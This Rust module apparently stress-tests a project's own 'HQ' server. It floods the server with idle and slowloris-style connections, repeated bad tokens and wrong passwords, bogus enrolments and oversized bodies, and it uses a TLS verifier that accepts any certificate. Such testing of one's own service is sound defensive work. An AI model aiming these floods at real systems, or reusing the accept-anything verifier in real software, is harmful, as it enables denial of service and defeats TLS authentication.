//! Connections to HQ that say nothing, that dawdle, and that show what nobody here signed.

use std::{io, net::Ipv4Addr, sync::Arc, time::Duration};

use peer_cache_node::Identity;
use rustls::{
    ClientConfig, DigitallySignedStruct, Error, SignatureScheme,
    client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier},
    pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName, UnixTime},
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::{sleep, timeout},
};
use tokio_rustls::{TlsConnector, client::TlsStream};

use super::http::connect;
use crate::{Attack, Failure};

/// Connections of one address that do nothing, or as good as nothing: with 32 addresses more than HQ takes in all.
const IDLE_AT_ONCE: usize = 160;
/// And of those that keep it busy.
const BUSY_AT_ONCE: usize = 8;
const PAUSE: Duration = Duration::from_millis(50);
const CONNECTED_WITHIN: Duration = Duration::from_secs(15);
const BODY_BYTES: usize = 1 << 20;

pub(crate) async fn attack(how: &str, attack: Attack) -> Result<(), Failure> {
    let at_once = match how {
        "silent" | "headers" | "bodies" => IDLE_AT_ONCE,
        "handshakes" | "tokens" | "passwords" | "enrol" | "foreign" => BUSY_AT_ONCE,
        other => return Err(format!("no mode hq-{other}").into()),
    };
    let anybody = Caller {
        attack: attack.clone(),
        nobody: tls(None)?,
        foreign: tls(Some(&Identity::generate()?))?,
    };
    let mut all = tokio::task::JoinSet::new();
    for address in attack.addresses(at_once) {
        all.spawn(again_and_again(how.to_owned(), anybody.clone(), address));
    }
    all.join_all().await;
    Ok(())
}

#[derive(Clone)]
struct Caller {
    attack: Attack,
    /// Without a certificate.
    nobody: TlsConnector,
    /// With one whose key HQ does not know.
    foreign: TlsConnector,
}

async fn again_and_again(how: String, caller: Caller, from: Ipv4Addr) {
    loop {
        let done = match how.as_str() {
            "silent" => caller.silent(from).await,
            "handshakes" => caller.greet(from, &caller.nobody).await.map(drop),
            "headers" => caller.dawdle(from).await,
            "tokens" => {
                let request = b"GET /api/v1/summary HTTP/1.1\r\nHost: hq\r\nAuthorization: Bearer aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n\r\n";
                caller.ask_endlessly(from, &caller.nobody, request).await
            }
            "passwords" => {
                let body = r#"{"name":"ada","password":"a wrong password"}"#;
                let request = format!(
                    "POST /api/v1/session HTTP/1.1\r\nHost: hq\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                );
                caller
                    .ask_endlessly(from, &caller.nobody, request.as_bytes())
                    .await
            }
            "enrol" => {
                let body = r#"{"secret":"00000000000000000000000000000000","name":"n","machine":"00000000000000000000000000000000","facts":{"uuid":null,"serial":null,"macs":[],"model":"m"}}"#;
                let request = format!(
                    "POST /api/v1/enrol HTTP/1.1\r\nHost: hq\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                );
                caller
                    .ask_endlessly(from, &caller.foreign, request.as_bytes())
                    .await
            }
            "bodies" => Box::pin(caller.bring_much(from)).await,
            _ => {
                let request = b"GET /api/v1/node/documents HTTP/1.1\r\nHost: hq\r\n\r\n";
                caller.ask_endlessly(from, &caller.foreign, request).await
            }
        };
        if done.is_err() {
            sleep(PAUSE).await;
        }
    }
}

impl Caller {
    async fn greet(&self, from: Ipv4Addr, tls: &TlsConnector) -> io::Result<TlsStream<TcpStream>> {
        let greeted = async {
            let stream = connect(from, self.attack.target, None).await?;
            let name = ServerName::try_from("hq").map_err(io::Error::other)?;
            tls.connect(name, stream).await
        };
        let greeted = timeout(CONNECTED_WITHIN, greeted).await??;
        self.attack.got_through();
        Ok(greeted)
    }

    /// A connection, and then nothing.
    async fn silent(&self, from: Ipv4Addr) -> io::Result<()> {
        let mut stream = connect(from, self.attack.target, None).await?;
        self.attack.got_through();
        let _ = stream.read(&mut [0]).await?;
        Ok(())
    }

    /// A byte of its header in a second.
    async fn dawdle(&self, from: Ipv4Addr) -> io::Result<()> {
        let mut stream = self.greet(from, &self.nobody).await?;
        for byte in b"GET /api/v1/summary HTTP/1.1\r\nHost: hq\r\n" {
            stream.write_all(&[*byte]).await?;
            stream.flush().await?;
            sleep(Duration::from_secs(1)).await;
        }
        Ok(())
    }

    /// The same request over and over.
    async fn ask_endlessly(
        &self,
        from: Ipv4Addr,
        tls: &TlsConnector,
        request: &[u8],
    ) -> io::Result<()> {
        let mut stream = self.greet(from, tls).await?;
        let mut answer = vec![0; 16 << 10];
        loop {
            stream.write_all(request).await?;
            if stream.read(&mut answer).await? == 0 {
                return Ok(());
            }
            self.attack.got_through();
        }
    }

    /// The longest body that a newcomer's route takes, all but the last byte, and one that is refused before it is read.
    async fn bring_much(&self, from: Ipv4Addr) -> io::Result<()> {
        let mut stream = self.greet(from, &self.foreign).await?;
        let head = format!(
            "POST /api/v1/agent/admit HTTP/1.1\r\nHost: hq\r\nContent-Length: {BODY_BYTES}\r\n\r\n"
        );
        stream.write_all(head.as_bytes()).await?;
        let piece = [b' '; 16 << 10];
        for _ in 0..BODY_BYTES / piece.len() - 1 {
            stream.write_all(&piece).await?;
        }
        stream.write_all(&piece[1..]).await?;
        stream.flush().await?;
        let _ = stream.read(&mut [0; 4096]).await?;
        Ok(())
    }
}

fn tls(identity: Option<&Identity>) -> Result<TlsConnector, Failure> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let builder = ClientConfig::builder_with_provider(provider)
        .with_protocol_versions(&[&rustls::version::TLS13])?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(Anybody));
    let config = match identity {
        None => builder.with_no_client_auth(),
        Some(identity) => {
            let pkcs8 = PrivatePkcs8KeyDer::from(identity.to_pkcs8().to_vec());
            let key = rcgen::KeyPair::try_from(&pkcs8)?;
            let certificate = rcgen::CertificateParams::new(vec!["node".into()])?;
            let certificate = certificate.self_signed(&key)?.der().clone();
            builder.with_client_auth_cert(vec![certificate], PrivateKeyDer::Pkcs8(pkcs8))?
        }
    };
    Ok(TlsConnector::from(Arc::new(config)))
}

/// An attacker does not care who it attacks.
#[derive(Debug)]
struct Anybody;

impl ServerCertVerifier for Anybody {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        let provider = rustls::crypto::ring::default_provider();
        provider
            .signature_verification_algorithms
            .supported_schemes()
    }
}
